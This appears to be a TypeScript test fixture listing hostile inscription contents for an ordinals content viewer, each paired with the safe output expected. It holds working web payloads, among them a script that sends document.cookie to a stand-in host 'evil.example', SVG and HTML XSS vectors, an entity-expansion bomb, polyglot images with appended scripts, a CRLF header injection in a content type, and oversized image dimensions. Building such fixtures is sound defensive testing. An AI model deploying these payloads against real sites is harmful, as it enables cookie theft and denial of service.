import { concatBytes, toUtf8 } from '../../bitcoin/bytes.ts'
import { TINY_AVIF_SEQUENCE, tinyImage } from '../../ordinals/testing/tiny-images.ts'

/** What may leave for it: nothing but a placeholder, the same text, or the image alone. */
type Allowed = 'placeholder' | 'text' | Uint8Array

/** Content that is made to act, to weigh, or to pass for something else. */
export type HostileContent = {
  name: string
  contentType: string | null
  bytes: Uint8Array
  allowed: Allowed
}

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>'
const SVG = 'http://www.w3.org/2000/svg'
const [PNG, GIF, JPEG] = [tinyImage('png'), tinyImage('gif'), tinyImage('jpeg')]
const [WEBP, AVIF] = [tinyImage('webp'), tinyImage('avif')]

const RASTERS = ['image/png', 'image/gif', 'image/jpeg', 'image/webp', 'image/avif']

const svgs = {
  'with a script': `<svg xmlns="${SVG}">${SCRIPT}</svg>`,
  'that acts when it is loaded': `<svg xmlns="${SVG}" onload="alert(1)"/>`,
  'that loads an image': `<svg xmlns="${SVG}"><image href="https://evil.example/pixel"/></svg>`,
  'that uses another file': `<svg xmlns="${SVG}"><use href="https://evil.example/a.svg#a"/></svg>`,
  'with a page inside': `<svg xmlns="${SVG}"><foreignObject><iframe src="https://evil.example"/></foreignObject></svg>`,
  'with entities that explode': `<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><svg xmlns="${SVG}">&b;</svg>`,
}

const htmls = {
  'with a script': `<html>${SCRIPT}</html>`,
  'that loads what others inscribed': '<script src="/content/0000i0"></script>',
  'that leaves': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
}

/** Types under which text is not text to a browser, or not at all what it says. */
const OTHERS = [
  'application/pdf',
  'application/x-shockwave-flash',
  'application/octet-stream',
  'application/wasm',
  'model/gltf-binary',
  'video/mp4',
  'audio/mpeg',
  'font/woff2',
  'image/bmp',
  'image/tiff',
  'image/x-icon',
  'image/heic',
  'multipart/x-mixed-replace;boundary=a',
  'text/html;charset=utf-7',
  'TEXT/HTML',
  '',
  'image/png\r\nset-cookie: a=b',
  'image',
  '__proto__/constructor',
  'a'.repeat(10_000),
  `image/${'png'.repeat(3_000)}`,
]

export const hostileContents: HostileContent[] = [
  ...Object.entries(svgs).map(([name, text]) => entry(`svg ${name}`, 'image/svg+xml', text)),
  ...Object.entries(htmls).map(([name, text]) => entry(`html ${name}`, 'text/html', text)),
  ...OTHERS.map(type => entry(`a script as ${JSON.stringify(type.slice(0, 40))}`, type, SCRIPT)),
  entry('a script without a type', null, SCRIPT),
  entry('html as plain text', 'text/plain', SCRIPT, 'text'),
  entry('html as plain text of an odd charset', 'text/plain;charset=text/html', SCRIPT, 'text'),
  entry('html as JSON', 'application/json', SCRIPT, 'text'),
  entry('javascript', 'text/javascript', 'alert(document.domain)', 'text'),
  entry('html as PNG', 'image/png', SCRIPT),
  entry('svg as PNG', 'image/png', svgs['with a script']),
  entry('svg as JPEG', 'image/jpeg', svgs['with a script']),
  entry('a GIF that is a script', 'image/gif', 'GIF89a/*...*/=1;alert(1)//;'),
  entry('a GIF under another type', 'image/png', GIF),
  entry('a PNG as html', 'text/html', PNG),
  entry('a PNG as svg', 'image/svg+xml', PNG),
  entry('a script behind a GIF', 'image/gif', concatBytes(GIF, toUtf8(SCRIPT)), GIF),
  entry('a script behind a PNG', 'image/png', concatBytes(PNG, toUtf8(SCRIPT)), PNG),
  entry(
    'an archive behind a JPEG',
    'image/jpeg',
    concatBytes(JPEG, toUtf8('PK\u0003\u0004')),
    JPEG,
  ),
  entry('a script behind a WebP', 'image/webp', concatBytes(WEBP, toUtf8(SCRIPT)), WEBP),
  entry('a script behind an AVIF', 'image/avif', concatBytes(AVIF, toUtf8(SCRIPT))),
  entry(
    'a PNG of 65,535 by 65,535',
    'image/png',
    patched(PNG, 16, [0, 0, 255, 255, 0, 0, 255, 255]),
  ),
  entry('a PNG of 2^32 by 2^32', 'image/png', patched(PNG, 16, Array(8).fill(255))),
  entry('a PNG without a pixel', 'image/png', patched(PNG, 16, Array(8).fill(0))),
  entry('a GIF with a huge screen', 'image/gif', patched(GIF, 6, Array(4).fill(255))),
  entry(
    'a JPEG of 65,535 by 65,535',
    'image/jpeg',
    patched(JPEG, frameOf(JPEG) + 5, Array(4).fill(255)),
  ),
  entry(
    'a JPEG that tells its height later',
    'image/jpeg',
    patched(JPEG, frameOf(JPEG) + 5, [0, 0]),
  ),
  entry('a JPEG of thousands of scans', 'image/jpeg', repeatScans(JPEG, 5_000)),
  entry('a WebP of a larger picture than it says', 'image/webp', extendedWebp(WEBP, 1, 1)),
  entry('a WebP with a canvas of 2^24 by 2^24', 'image/webp', extendedWebp(WEBP, 2 ** 24, 2 ** 24)),
  entry(
    'an AVIF of 65,536 by 65,536',
    'image/avif',
    patched(AVIF, indexOf(AVIF, 'ispe') + 8, [0, 1, 0, 0, 0, 1, 0, 0]),
  ),
  entry(
    'an AVIF whose stream is larger than it says',
    'image/avif',
    patched(AVIF, indexOf(AVIF, '\u0018\u0008'), [0x18, 0x3f, 255, 255, 255, 255, 255, 255]),
  ),
  entry(
    'an AVIF with more data than there is',
    'image/avif',
    patched(AVIF, indexOf(AVIF, 'iloc') + 22, [255, 255]),
  ),
  entry('a sequence of AVIF pictures', 'image/avif', TINY_AVIF_SEQUENCE),
  ...[PNG, GIF, JPEG, WEBP, AVIF].map((bytes, i) =>
    entry(`half an image, ${i}`, RASTERS[i] ?? null, bytes.subarray(0, bytes.length / 2)),
  ),
  entry('text of 4 MB', 'text/plain', new Uint8Array(4_000_000).fill(0x61), 'text'),
  entry('text of more', 'text/plain', new Uint8Array(4_000_001).fill(0x61)),
  entry('a PNG of more', 'image/png', concatBytes(PNG, new Uint8Array(4_000_000))),
  entry(
    'text with characters that turn it around',
    'text/plain',
    'send \u202e5 ot \u0000\u0007\u001b[2J\u200b',
    'text',
  ),
  entry('text that is no UTF-8', 'text/plain', Uint8Array.of(0xff, 0xfe, 0x00, 0x41)),
  entry('text in UTF-7', 'text/plain;charset=utf-7', '+ADw-script+AD4-', 'text'),
  entry('text that is cut within a character', 'text/plain', '\u{1f600}'.repeat(30_000), 'text'),
  entry('JSON of a million brackets', 'application/json', '['.repeat(1_000_000), 'text'),
  entry(
    'JSON that names a prototype',
    'application/json',
    '{"__proto__":{"p":"brc-20"},"p":"brc-20","op":"constructor"}',
    'text',
  ),
  entry(
    'BRC-20 with a ticker of objects',
    'text/plain',
    '{"p":"brc-20","op":"mint","tick":{"a":1},"amt":"1"}',
    'text',
  ),
  entry(
    'BRC-20 of an amount in words',
    'text/plain',
    '{"p":"brc-20","op":"mint","tick":"ordi","amt":"1e400"}',
    'text',
  ),
  entry('gzip as text', 'text/plain', Uint8Array.of(0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0)),
]

function entry(
  name: string,
  contentType: string | null,
  content: string | Uint8Array,
  allowed: Allowed = 'placeholder',
): HostileContent {
  const bytes = typeof content === 'string' ? toUtf8(content) : Uint8Array.from(content)
  return { name, contentType, bytes, allowed }
}

function patched(bytes: Uint8Array, at: number, values: readonly number[]): Uint8Array {
  const changed = Uint8Array.from(bytes)
  changed.set(values, at)
  return changed
}

function indexOf(bytes: Uint8Array, text: string): number {
  const at = String.fromCharCode(...bytes).indexOf(text)
  if (at === -1) throw new Error(`No ${JSON.stringify(text)}`)
  return at
}

/** Of the baseline frame's marker. */
function frameOf(jpeg: Uint8Array): number {
  return indexOf(jpeg, '\u00ff\u00c0')
}

function repeatScans(jpeg: Uint8Array, times: number): Uint8Array {
  const at = indexOf(jpeg, '\u00ff\u00da')
  const [head, scan, end] = [jpeg.subarray(0, at), jpeg.subarray(at, -2), jpeg.subarray(-2)]
  return concatBytes(head, ...Array<Uint8Array>(times).fill(scan), end)
}

/** The picture of a simple WebP in a container that says this size. */
function extendedWebp(webp: Uint8Array, width: number, height: number): Uint8Array {
  const header = new Uint8Array(18)
  const view = new DataView(header.buffer)
  header.set(toUtf8('VP8X'))
  view.setUint32(4, 10, true)
  view.setUint32(12, width - 1, true) // Three bytes; the next line writes over the fourth.
  view.setUint16(15, (height - 1) & 0xffff, true)
  header[17] = (height - 1) >> 16
  const extended = concatBytes(webp.subarray(0, 12), header, webp.subarray(12))
  new DataView(extended.buffer).setUint32(4, extended.length - 8, true)
  return extended
}
